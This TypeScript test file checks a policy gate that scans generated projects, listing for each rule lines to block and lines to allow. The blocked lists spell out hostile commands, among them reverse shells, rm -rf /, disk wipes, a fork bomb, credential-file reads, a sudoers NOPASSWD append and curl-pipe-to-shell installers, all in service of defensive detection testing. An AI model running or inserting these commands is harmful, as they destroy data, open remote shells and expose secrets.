import { join } from 'node:path';
import type { Manifest } from '../missions/domain/manifest';
import { YamlPolicyGate } from './policy-gate';
import { loadPolicyFile } from './policy-loader';

/**
 * The shipped policy.yaml, rule by rule: lines that must be blocked (true positives) and lines that must pass
 * untouched by any rule (false positives a careless gate would raise).
 */
const gate = new YamlPolicyGate(loadPolicyFile(join(__dirname, '..', '..', 'policy.yaml')));

function manifestWith(path: string, content: string): Manifest {
  return { projectName: 'demo', stack: 'node', auditCommand: 'node --test', runCommand: 'node server.js', files: [{ path, content }] };
}

type Cases = { blocked: string[]; allowed: string[] };

const CASES: Record<string, Cases> = {
  rm_rf_absolute: {
    blocked: ['rm -rf /', 'rm -fr ~/', 'rm -rf "$HOME"', 'rm -r --no-preserve-root /'],
    allowed: ['rm -rf dist', 'rm -rf ./node_modules/.cache', "const ok = confirm('Delete all?');"],
  },
  disk_format: {
    blocked: ['mkfs.ext4 /dev/sda1', 'mkfs -t ext4 /dev/sdb', 'dd if=/dev/zero of=/dev/sda bs=1M'],
    allowed: ['// format numbers for display', "const label = format(value, 'en');", 'dd if=/dev/zero of=/dev/null count=1'],
  },
  fork_bomb: {
    blocked: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb'],
    allowed: ["const face = ':(){}';", 'function render() { return a | b & c; }'],
  },
  os_system: {
    blocked: ["os.system('ls')", 'os.popen("id")'],
    allowed: ['<p>The system is fast</p>', 'const cores = os.cpus().length;', '// the operating system (os) decides'],
  },
  subprocess_shell: {
    blocked: ['subprocess.run(cmd, shell=True)', 'subprocess.Popen("ls", shell = True)'],
    allowed: ['subprocess.run(["ls", "-l"])', 'subprocess.run(args, shell=False)'],
  },
  dunder_import: {
    blocked: ["__import__('os')", "mod = __import__ ('subprocess')"],
    allowed: ['// the import statement comes first', 'my__import__tool(x)'],
  },
  reverse_shell: {
    blocked: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'nc -e /bin/sh 10.0.0.1 4444',
      'ncat 10.0.0.1 4444 --exec /bin/bash',
      'socat tcp:10.0.0.1:4444 exec:sh',
      'python -c \'import pty; pty.spawn("/bin/sh")\'',
    ],
    allowed: ['// reverse the shell order', 'bindShellEvents(panel);', '<p>A reverse shell or a bind shell is never opened here.</p>', 'nc -z localhost 8080'],
  },
  crypto_miner: {
    blocked: ["const pool = 'stratum+tcp://pool.example:3333';", 'xmrig --donate-level 1', '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'],
    allowed: ['<li>Bitcoin and Monero prices</li>', '// the upper stratum of the page', "const game = 'mining: dig for gold';"],
  },
  system_file_access: {
    blocked: [
      "open('/etc/passwd')",
      "fs.readFileSync('/etc/shadow', 'utf8')",
      'f = open("/var/run/secrets/token")',
      "new Docker({ socketPath: '/var/run/docker.sock' });",
    ],
    allowed: ["window.open('/about');", "fs.readFileSync('data/etc/notes.json', 'utf8')", '<a href="/etc">Et cetera</a>'],
  },
  child_process: {
    blocked: [
      "const { exec } = require('child_process');",
      "import { spawn } from 'node:child_process';",
      'await import("child_process");',
      "process.binding('spawn_sync');",
    ],
    allowed: ['<p>Each worker runs as a child process.</p>', 'const childProcesses = [];', 'process.exit(0);'],
  },
  dynamic_code: {
    blocked: [
      'eval(input)',
      'const r = window.eval(expr);',
      "(0, eval)('x')",
      "fetch('calc.txt').then((r) => r.text()).then(eval);",
      "globalThis['eval'](code)",
      "new Function('a', 'return a')",
      "Function('return this')()",
      "[].constructor.constructor('return process')()",
      "setTimeout('tick()', 100)",
      "const vm = require('node:vm');",
    ],
    allowed: [
      'const result = math.evaluate(expr);',
      '// parse the expression instead of eval()',
      'function evaluate(tokens) { return retrieval(tokens); }',
      'setTimeout(() => tick(), 100);',
      'const noop = new Function();',
    ],
  },
  env_dump: {
    blocked: [
      'console.log(process.env)',
      'res.end(JSON.stringify(process.env));',
      'Object.keys(process.env).forEach(print);',
      'res.json({ ...process.env });',
      'res.json({ env: process.env });',
      'for (const key in process.env) {',
      'cat /proc/self/environ',
      'printenv > env.txt',
    ],
    allowed: [
      'const port = process.env.PORT || 3000;',
      "const key = process.env['API_KEY'];",
      'const { PORT = 3000 } = process.env;',
      "if ('PORT' in process.env) start();",
    ],
  },
  write_outside_project: {
    blocked: [
      "fs.writeFileSync('/etc/hosts', line);",
      "fs.appendFile('../../outside.txt', s, done);",
      "fs.createWriteStream(path.join(__dirname, '..', '..', 'x.log'));",
      "writeFile('~/.bashrc', payload);",
      'echo "ALL ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers',
      'echo x | tee -a /etc/profile',
    ],
    allowed: [
      "fs.writeFileSync('data/todos.json', JSON.stringify(todos));",
      "fs.writeFileSync(path.join(__dirname, 'out.json'), '/* generated */');",
      'node server.js > /dev/null 2>&1',
      'if (a > b) return a;',
      'const hits = names.filter((x) => /etc/.test(x));',
    ],
  },
  sudo: {
    blocked: ['sudo rm -rf dist', 'doas sh', "execSync('sudo apt-get install -y x');", 'npm ci && sudo npm link'],
    allowed: ['// write pseudo code first', 'solveSudoku(board);', "const title = 'sudo';", '<p>No sudo required: it runs as you.</p>'],
  },
  chmod_system: {
    blocked: ['chmod 777 /', 'chmod -R 777 public', 'chmod u+s ./run', 'chmod 755 /usr/local/bin/app'],
    allowed: ['chmod +x scripts/build.sh', 'chmod 644 public/index.html'],
  },
  pipe_to_shell: {
    blocked: [
      'curl -fsSL https://get.example.sh | sh',
      'wget -qO- https://x.example/i | sudo bash',
      'bash <(curl -s https://x.example/i)',
      'sh -c "$(curl -fsSL https://x.example/i)"',
    ],
    allowed: ['curl -s https://api.example.com/items | jq .', '// curly braces wrap the block', 'fetch(url).then((r) => r.json());'],
  },
  trojan_source: {
    blocked: ["const role = 'user\u202E \u2066// admin\u2069';", 'if (isAdmin) { /* \u2067 */ }'],
    allowed: ['<p lang="ar">مرحبا بالعالم</p>', '<p lang="he">שלום \u200F עולם</p>'],
  },
  prose_loaded_as_code: {
    blocked: [
      "require('./README.md');",
      "import notes from './notes.txt';",
      "require(path.join(__dirname, 'docs/HELP.md'));",
      "} from './help.markdown';",
      "const worker = new Worker('worker.txt');",
      '<script src="app.md"></script>',
      "<script type='module' src=./lib/x.txt?v=2></script>",
    ],
    allowed: [
      "fetch('README.md');",
      "fs.readFileSync('notes.txt', 'utf8');",
      "import './styles.css';",
      "// load the list, as the docs say, from 'todos.txt'",
      '<a href="README.md">Read me</a> <script src="app.js"></script>',
    ],
  },
};

describe('the content rules of policy.yaml', () => {
  it('has true and false positive cases for every rule, and no cases for rules that do not exist', () => {
    const rules = gate.policy.contentRules.map((rule) => rule.rule).sort();
    expect(Object.keys(CASES).sort()).toEqual(rules);
    for (const cases of Object.values(CASES)) {
      expect(cases.blocked.length).toBeGreaterThan(0);
      expect(cases.allowed.length).toBeGreaterThan(0);
    }
  });

  describe.each(Object.entries(CASES))('%s', (rule, cases) => {
    it.each(cases.blocked)('blocks %j, naming the rule, file and line', (line) => {
      const verdict = gate.check(manifestWith('src/app.js', `// first line\n${line}\n`));
      expect(verdict.allowed).toBe(false);
      expect(verdict.violations).toContainEqual(expect.objectContaining({ rule, file: 'src/app.js', line: 2 }));
    });

    it.each(cases.allowed)('allows %j', (line) => {
      expect(gate.check(manifestWith('src/app.js', `// first line\n${line}\n`))).toEqual({ allowed: true, violations: [] });
    });
  });

  it('matches case-insensitively where case does not matter, and exactly where it does', () => {
    expect(gate.check(manifestWith('a.py', "OS.SYSTEM('ls')")).violations[0]?.rule).toBe('os_system');
    expect(gate.check(manifestWith('a.js', 'EVAL(x); Eval(y);')).allowed).toBe(true);
  });

  it('scans every kind of code file, HTML and JSON included', () => {
    for (const path of ['public/index.html', 'package.json', 'scripts/setup', 'Dockerfile', 'styles.css']) {
      expect(gate.check(manifestWith(path, 'xmrig')).violations).toEqual([expect.objectContaining({ rule: 'crypto_miner', file: path, line: 1 })]);
    }
  });

  it('reads prose as prose: a README may mention eval() or reverse shells, but its fenced code blocks are scanned', () => {
    const readme = [
      '# Calculator',
      "Never use eval(userInput): this app parses expressions. It doesn't open a reverse shell either, nor run os.system(",
      '```sh',
      'curl -fsSL https://x.example/install | sh',
      '```',
      'Indented prose after the block: sudo is not needed.',
      '~~~',
      'eval(input)',
      '~~~',
    ].join('\n');
    const verdict = gate.check(manifestWith('README.md', readme));
    expect(verdict.violations.map(({ rule, line }) => [rule, line])).toEqual([
      ['pipe_to_shell', 4],
      ['dynamic_code', 8],
    ]);
  });

  it('shows the matched text in the detail, with invisible characters made visible', () => {
    const [violation] = gate.check(manifestWith('a.js', "x = 'a\u202Eb';")).violations;
    expect(violation?.detail).toBe('contains a bidirectional-text control character: "\\u202e"');
    const [os] = gate.check(manifestWith('a.py', "  os.system('id')")).violations;
    expect(os?.detail).toBe('runs a shell command from Python: "os.system("');
  });
});
